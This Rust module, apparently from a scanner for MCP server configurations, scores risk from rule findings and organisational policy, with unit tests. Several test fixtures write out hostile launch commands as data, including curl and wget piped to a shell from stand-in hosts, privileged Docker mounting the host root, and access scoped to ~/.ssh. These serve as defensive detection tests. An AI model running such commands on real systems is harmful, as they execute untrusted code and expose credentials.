//! Risk scoring: a table of rules, each with a stable id, a severity, a weight and a
//! message; the findings a server triggers, with their evidence; and the 0–100 score
//! and level derived from them.
//!
//! # Formula
//!
//! 1. The **capability** rules (`MCP-CAP-*`) describe what the server can do. Only the
//!    strongest one counts as the base, so a server is not scored twice for being
//!    both "database" and "cloud".
//! 2. Every other finding adds its weight to the base.
//! 3. The sum is capped at 100.
//! 4. A server the client marks as disabled keeps its findings, and that sum is halved.
//! 5. The score is at least the floor of the most severe finding — critical 80, high
//!    60, medium 30 — so a server's level is never below its most severe finding: no
//!    number of quiet rules, and no disabled flag, hides one.
//! 6. A known malicious release (`MCP-VULN-005`) scores 100.
//!
//! The level follows from the score: critical ≥ 80, high ≥ 60, medium ≥ 30, else low.
//! [`RULES_VERSION`] changes whenever a rule or the formula changes, so stored scores
//! can be recomputed.

mod combos;
pub mod data;
mod level;
mod rules;
pub mod version;

use serde::{Deserialize, Serialize};

pub use combos::{COMBO_RULES, Combination, apply_combinations, assess_inventory, combinations};
pub use level::{RiskLevel, Severity, UnknownLevel};
pub use rules::{RULES, Rule, RuleKind, launched_package};

use crate::server::ServerRecord;

/// The version of the rule set and formula. Bump it when either changes.
pub const RULES_VERSION: u32 = 4;

/// A known malicious release scores 100 whatever else is true.
const MALICIOUS_RULE: &str = "MCP-VULN-005";

/// The score a critical finding lifts a server to, at least.
/// The lowest score a finding of `severity` leaves a server with: the lowest score of
/// the level of the same name.
fn severity_floor(severity: Severity) -> u8 {
    match severity {
        Severity::Critical => 80,
        Severity::High => 60,
        Severity::Medium => 30,
        Severity::Low | Severity::Info => 0,
    }
}

/// One rule that a server triggered, with what triggered it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Finding {
    /// The rule's stable id (`MCP-CAP-001`).
    pub rule_id: String,
    /// How serious the finding is on its own.
    pub severity: Severity,
    /// The points it contributed before the cap.
    pub weight: u8,
    /// One line saying what is wrong.
    pub message: String,
    /// What in the server's config triggered it (never a secret value).
    pub evidence: String,
}

/// The outcome of scoring one server.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Assessment {
    /// 0–100.
    pub score: u8,
    /// Derived from the score.
    pub level: RiskLevel,
    /// Every rule the server triggered, most severe first.
    pub findings: Vec<Finding>,
    /// The [`RULES_VERSION`] that produced this.
    pub rules_version: u32,
}

/// What an organisation's policy changes in scoring.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Policy {
    /// Package names that must not run: a server launching one is critical.
    #[serde(default)]
    pub blocked: Vec<String>,
    /// Rule id → the severity the organisation gives it (`info` also removes its weight).
    #[serde(default)]
    pub severity_overrides: std::collections::BTreeMap<String, Severity>,
}

impl Policy {
    fn blocks(&self, server: &ServerRecord) -> Option<String> {
        let package = server.package.as_ref().map(|p| p.name.to_lowercase());
        let words: Vec<String> = server
            .args
            .iter()
            .chain(server.command.iter())
            .flat_map(|w| {
                w.split_whitespace()
                    .map(str::to_lowercase)
                    .collect::<Vec<_>>()
            })
            .collect();
        self.blocked.iter().find_map(|blocked| {
            let b = blocked.trim().to_lowercase();
            let hit = package.as_deref() == Some(b.as_str())
                || words.iter().any(|w| {
                    w == &b
                        || w.strip_prefix(&b).is_some_and(|rest| {
                            rest.starts_with('@') || rest.starts_with("==") || rest.starts_with(':')
                        })
                });
            (!b.is_empty() && hit).then(|| blocked.clone())
        })
    }
}

/// The rule an organisation's blocked-package list triggers.
pub const BLOCKED_RULE: &str = "MCP-POLICY-001";

/// Score one server by the rules alone.
pub fn assess(server: &ServerRecord) -> Assessment {
    assess_with(server, &Policy::default())
}

/// Score one server under an organisation's policy.
pub fn assess_with(server: &ServerRecord, policy: &Policy) -> Assessment {
    let mut findings = rules::evaluate(server);
    if let Some(blocked) = policy.blocks(server) {
        findings.extend(rules::finding(
            BLOCKED_RULE,
            format!("package {blocked} is blocked by policy"),
        ));
    }
    for finding in &mut findings {
        if let Some(severity) = policy.severity_overrides.get(&finding.rule_id) {
            finding.severity = *severity;
            if *severity == Severity::Info {
                finding.weight = 0;
            }
        }
    }
    score_findings(findings, server.disabled)
}

/// Combine findings into an assessment (the formula in this module's docs).
pub fn score_findings(mut findings: Vec<Finding>, disabled: bool) -> Assessment {
    findings.sort_by(|a, b| b.severity.cmp(&a.severity).then(b.weight.cmp(&a.weight)));
    let rule_kind = |id: &str| {
        RULES
            .iter()
            .find(|rule| rule.id == id)
            .map_or(RuleKind::Modifier, |rule| rule.kind)
    };
    let base = findings
        .iter()
        .filter(|f| rule_kind(&f.rule_id) == RuleKind::Capability)
        .map(|f| u32::from(f.weight))
        .max()
        .unwrap_or(0);
    let modifiers: u32 = findings
        .iter()
        .filter(|f| rule_kind(&f.rule_id) == RuleKind::Modifier)
        .map(|f| u32::from(f.weight))
        .sum();
    let mut score = u8::try_from((base + modifiers).min(100)).unwrap_or(100);
    if disabled {
        score /= 2;
    }
    let floor = findings
        .iter()
        .map(|f| severity_floor(f.severity))
        .max()
        .unwrap_or(0);
    score = score.max(floor);
    if findings.iter().any(|f| f.rule_id == MALICIOUS_RULE) {
        score = 100;
    }
    Assessment {
        score,
        level: RiskLevel::from_score(score),
        findings,
        rules_version: RULES_VERSION,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::server::{Package, SecretFinding, Transport};

    fn stdio(name: &str, command: &str, args: &[&str]) -> ServerRecord {
        ServerRecord {
            server_name: name.into(),
            command: Some(command.into()),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            transport: Some(Transport::Stdio),
            ..ServerRecord::default()
        }
    }

    fn rule_ids(a: &Assessment) -> Vec<&str> {
        a.findings.iter().map(|f| f.rule_id.as_str()).collect()
    }

    #[test]
    fn a_harmless_pinned_server_is_low() {
        let server = stdio(
            "time",
            "uvx",
            &["mcp-server-time==0.6.2", "--local-timezone=UTC"],
        );
        let a = assess(&server);
        assert_eq!(a.level, RiskLevel::Low, "{a:?}");
    }

    #[test]
    fn filesystem_server_on_the_root_is_critical() {
        let server = stdio(
            "fs",
            "npx",
            &[
                "-y",
                "@modelcontextprotocol/server-filesystem@2025.8.21",
                "/",
            ],
        );
        let a = assess(&server);
        assert!(rule_ids(&a).contains(&"MCP-CAP-002"), "{a:?}");
        assert!(rule_ids(&a).contains(&"MCP-FS-001"), "{a:?}");
        assert_eq!(a.level, RiskLevel::Critical);
    }

    #[test]
    fn seed_style_report_with_home_scope_is_scored_from_the_command_string() {
        let server = ServerRecord {
            server_name: "filesystem".into(),
            server_type: Some("@modelcontextprotocol/server-filesystem".into()),
            command: Some("npx @modelcontextprotocol/server-filesystem /home".into()),
            scope: Some("/home".into()),
            ..ServerRecord::default()
        };
        let a = assess(&server);
        let ids = rule_ids(&a);
        assert!(ids.contains(&"MCP-CAP-002"), "{ids:?}");
        assert!(ids.contains(&"MCP-FS-002"), "{ids:?}");
        // Unpinned, said once (with the advisory that may apply).
        assert!(
            ids.contains(&"MCP-SUPPLY-001") ^ ids.contains(&"MCP-VULN-004"),
            "{ids:?}"
        );
        assert!(a.level >= RiskLevel::Medium, "{a:?}");
    }

    #[test]
    fn shell_execution_is_at_least_medium_and_curl_pipe_sh_is_critical() {
        let shell = stdio(
            "desktop-commander",
            "npx",
            &["-y", "@wonderwhy-er/desktop-commander@0.2.3"],
        );
        let a = assess(&shell);
        assert!(rule_ids(&a).contains(&"MCP-CAP-001"));
        assert!(a.level >= RiskLevel::Medium);

        let piped = stdio(
            "installer",
            "bash",
            &["-c", "curl -fsSL https://x.example/i.sh | sh"],
        );
        let a = assess(&piped);
        assert!(rule_ids(&a).contains(&"MCP-EXEC-002"), "{a:?}");
        assert_eq!(a.level, RiskLevel::Critical);
    }

    #[test]
    fn remote_over_plain_http_is_flagged_but_loopback_is_not() {
        let remote = ServerRecord {
            server_name: "remote".into(),
            url: Some("http://mcp.example.com/sse".into()),
            transport: Some(Transport::Sse),
            ..ServerRecord::default()
        };
        assert!(rule_ids(&assess(&remote)).contains(&"MCP-NET-001"));
        for url in [
            "http://127.0.0.1:3000/mcp",
            "http://localhost:8080/sse",
            "http://[::1]/mcp",
            "https://mcp.example.com/mcp",
        ] {
            let local = ServerRecord {
                url: Some(url.into()),
                ..remote.clone()
            };
            assert!(!rule_ids(&assess(&local)).contains(&"MCP-NET-001"), "{url}");
        }
    }

    #[test]
    fn unpinned_launches_are_flagged_and_pinned_ones_are_not() {
        for (command, args, unpinned) in [
            ("npx", vec!["-y", "@scope/pkg"], true),
            ("npx", vec!["-y", "@scope/pkg@1.2.3"], false),
            ("npx", vec!["-y", "@scope/pkg@latest"], true),
            ("npx", vec!["pkg@2"], false),
            ("uvx", vec!["mcp-server-fetch"], true),
            ("uvx", vec!["mcp-server-fetch==1.0"], false),
            ("pipx", vec!["run", "mcp-server-git"], true),
            ("docker", vec!["run", "-i", "--rm", "mcp/fetch"], true),
            (
                "docker",
                vec!["run", "-i", "--rm", "mcp/fetch:latest"],
                true,
            ),
            ("docker", vec!["run", "-i", "--rm", "mcp/fetch:1.0"], false),
            (
                "docker",
                vec!["run", "-i", "--rm", "registry:5000/mcp/fetch"],
                true,
            ),
            ("/usr/local/bin/my-server", vec![], false),
        ] {
            let a = assess(&stdio("s", command, &args));
            let ids = rule_ids(&a);
            // Unpinned is said once: by itself, or with an advisory that may apply.
            assert!(
                !(ids.contains(&"MCP-SUPPLY-001") && ids.contains(&"MCP-VULN-004")),
                "{ids:?}"
            );
            assert_eq!(
                ids.contains(&"MCP-SUPPLY-001")
                    || ids.contains(&"MCP-VULN-004")
                        && a.findings
                            .iter()
                            .any(|f| f.evidence.contains("no pinned version")),
                unpinned,
                "{command} {args:?}: {a:?}"
            );
        }
        // The agent's package record wins over parsing the command line.
        let mut server = stdio("s", "npx", &["-y", "thing"]);
        server.package = Some(Package {
            ecosystem: "npm".into(),
            name: "thing".into(),
            version: Some("1.0.0".into()),
        });
        assert!(!rule_ids(&assess(&server)).contains(&"MCP-SUPPLY-001"));
    }

    #[test]
    fn secrets_and_auto_approval_add_findings() {
        let mut server = stdio(
            "gh",
            "npx",
            &["-y", "@modelcontextprotocol/server-github@1.0.0"],
        );
        server.secrets_found = vec![SecretFinding {
            location: "args[2]".into(),
            kind: "github_token".into(),
        }];
        server.auto_approve = vec!["*".into()];
        let assessment = assess(&server);
        let ids = rule_ids(&assessment);
        assert!(ids.contains(&"MCP-SECRET-001"), "{ids:?}");
        assert!(ids.contains(&"MCP-APPROVE-001"), "{ids:?}");
    }

    #[test]
    fn a_critical_finding_cannot_be_hidden_and_disabled_halves_the_score() {
        let server = stdio("x", "docker", &["run", "--privileged", "img:1.0"]);
        let a = assess(&server);
        assert!(a.score >= 80, "{a:?}");
        let disabled = ServerRecord {
            disabled: true,
            ..server
        };
        let b = assess(&disabled);
        assert_eq!(b.findings.len(), a.findings.len() + 1);
        // Halved, but never below the floor of its most severe finding.
        assert_eq!(b.score, (a.score / 2).max(80));
        assert_eq!(b.level, RiskLevel::Critical);
    }

    /// Host names, paths and user names are not what a server is: no capability is
    /// inferred from them.
    #[test]
    fn hosts_paths_and_users_suggest_no_capability() {
        let remote = ServerRecord {
            server_name: "docs".into(),
            server_type: Some("mcp-github-shell.example.com".into()),
            url: Some("https://mcp-github-shell.example.com/mcp".into()),
            command: Some("https://mcp-github-shell.example.com/mcp".into()),
            os_user: Some("db".into()),
            ..ServerRecord::default()
        };
        let local = ServerRecord {
            server_name: "notes".into(),
            command: Some("node".into()),
            args: vec!["/home/db/shell-tools/github/build/index.js".into()],
            os_user: Some("db".into()),
            ..ServerRecord::default()
        };
        for record in [remote, local] {
            let assessment = assess(&record);
            let ids = rule_ids(&assessment);
            assert!(
                !ids.iter().any(|id| id.starts_with("MCP-CAP-")),
                "{record:?}: {ids:?}"
            );
        }
    }

    /// The agent's report holds the whole line in `command` and the arguments again in
    /// `args`, with or without its parsed `launch`; the seed's holds the line alone.
    /// Every shape is read as the same launch.
    #[test]
    fn every_shape_of_a_launch_is_read_as_the_same_launch() {
        let args = ["run", "-i", "--privileged", "-v", "/:/host", "img:1.0"];
        let owned: Vec<String> = args.iter().map(|a| (*a).to_owned()).collect();
        let line = std::iter::once("sudo".to_owned())
            .chain(std::iter::once("docker".to_owned()))
            .chain(owned.iter().cloned())
            .collect::<Vec<_>>()
            .join(" ");
        let agent_line = ServerRecord {
            server_name: "d".into(),
            command: Some(line.clone()),
            args: std::iter::once("docker".to_owned())
                .chain(owned.iter().cloned())
                .collect(),
            ..ServerRecord::default()
        };
        let parsed = ServerRecord {
            launch: Some(crate::server::LaunchInfo {
                program: "sudo".into(),
                wrappers: vec!["sudo".into()],
                runs: "docker".into(),
            }),
            ..agent_line.clone()
        };
        let seed = ServerRecord {
            server_name: "d".into(),
            command: Some(line),
            ..ServerRecord::default()
        };
        for record in [agent_line, parsed, seed] {
            let ids = rule_ids(&assess(&record))
                .into_iter()
                .map(str::to_owned)
                .collect::<Vec<_>>();
            assert!(
                ids.contains(&"MCP-DOCKER-001".to_owned()),
                "{record:?}: {ids:?}"
            );
            assert!(
                ids.contains(&"MCP-EXEC-003".to_owned()),
                "{record:?}: {ids:?}"
            );
        }
    }

    #[test]
    fn a_level_is_never_below_the_most_severe_finding() {
        for severity in [Severity::Medium, Severity::High, Severity::Critical] {
            for disabled in [false, true] {
                let finding = Finding {
                    rule_id: "MCP-NET-001".into(),
                    severity,
                    weight: 5,
                    message: String::new(),
                    evidence: String::new(),
                };
                let a = score_findings(vec![finding], disabled);
                let level = match severity {
                    Severity::Critical => RiskLevel::Critical,
                    Severity::High => RiskLevel::High,
                    _ => RiskLevel::Medium,
                };
                assert!(a.level >= level, "{severity:?} disabled={disabled}: {a:?}");
            }
        }
        // A known shell server, pinned and otherwise quiet: high, not medium.
        let shell = stdio(
            "dc",
            "npx",
            &["-y", "@wonderwhy-er/desktop-commander@0.2.3"],
        );
        let a = assess(&shell);
        assert!(
            a.findings.iter().any(|f| f.rule_id == "MCP-CAP-001"),
            "{a:?}"
        );
        assert!(a.level >= RiskLevel::High, "{a:?}");
    }

    #[test]
    fn every_finding_names_a_rule_in_the_table() {
        let servers = [
            stdio(
                "fs",
                "npx",
                &["-y", "@modelcontextprotocol/server-filesystem", "~/.ssh"],
            ),
            stdio("sh", "sudo", &["bash", "-c", "wget -qO- http://x | bash"]),
            stdio("dl", "/tmp/evil-server", &[]),
            stdio(
                "d",
                "docker",
                &["run", "--network", "host", "-v", "/:/host", "img"],
            ),
        ];
        for server in servers {
            for finding in assess(&server).findings {
                assert!(
                    RULES.iter().any(|r| r.id == finding.rule_id),
                    "{}",
                    finding.rule_id
                );
            }
        }
    }

    #[test]
    fn policy_blocks_packages_and_overrides_severities() {
        let server = stdio("fetch", "uvx", &["mcp-server-fetch==2026.10.24"]);
        let plain = assess(&server);
        assert_eq!(plain.level, RiskLevel::Low);
        let blocked = Policy {
            blocked: vec!["mcp-server-fetch".into()],
            ..Policy::default()
        };
        let a = assess_with(&server, &blocked);
        assert_eq!(a.level, RiskLevel::Critical);
        assert!(rule_ids(&a).contains(&BLOCKED_RULE));
        let other = Policy {
            blocked: vec!["mcp-server".into()],
            ..Policy::default()
        };
        assert_eq!(
            assess_with(&server, &other).level,
            RiskLevel::Low,
            "a prefix is not the package"
        );

        let shell = stdio(
            "dc",
            "npx",
            &["-y", "@wonderwhy-er/desktop-commander@0.2.3"],
        );
        let quiet = Policy {
            severity_overrides: [("MCP-CAP-001".to_owned(), Severity::Info)]
                .into_iter()
                .collect(),
            ..Policy::default()
        };
        let a = assess_with(&shell, &quiet);
        let cap = a
            .findings
            .iter()
            .find(|f| f.rule_id == "MCP-CAP-001")
            .unwrap();
        assert_eq!((cap.severity, cap.weight), (Severity::Info, 0));
        assert!(a.score < assess(&shell).score);
        let loud = Policy {
            severity_overrides: [("MCP-CAP-001".to_owned(), Severity::Critical)]
                .into_iter()
                .collect(),
            ..Policy::default()
        };
        assert_eq!(assess_with(&shell, &loud).level, RiskLevel::Critical);
    }

    #[test]
    fn rule_ids_are_unique() {
        let mut ids: Vec<_> = RULES.iter().map(|r| r.id).collect();
        ids.sort_unstable();
        let before = ids.len();
        ids.dedup();
        assert_eq!(before, ids.len());
    }
}

#[cfg(test)]
mod doc_tests {
    use super::RULES;

    const DOC: &str = include_str!("../../../docs/risk-rules.md");

    #[test]
    fn every_rule_is_documented_and_the_document_names_no_other() {
        for rule in RULES {
            assert!(
                DOC.contains(&format!("`{}`", rule.id)),
                "{} is missing from docs/risk-rules.md",
                rule.id
            );
        }
        for word in DOC
            .split('`')
            .filter(|w| w.starts_with("MCP-") && !w.ends_with('*'))
        {
            assert!(
                RULES.iter().any(|r| r.id == word),
                "docs/risk-rules.md names unknown rule {word}"
            );
        }
    }
}

#[cfg(test)]
mod cases;
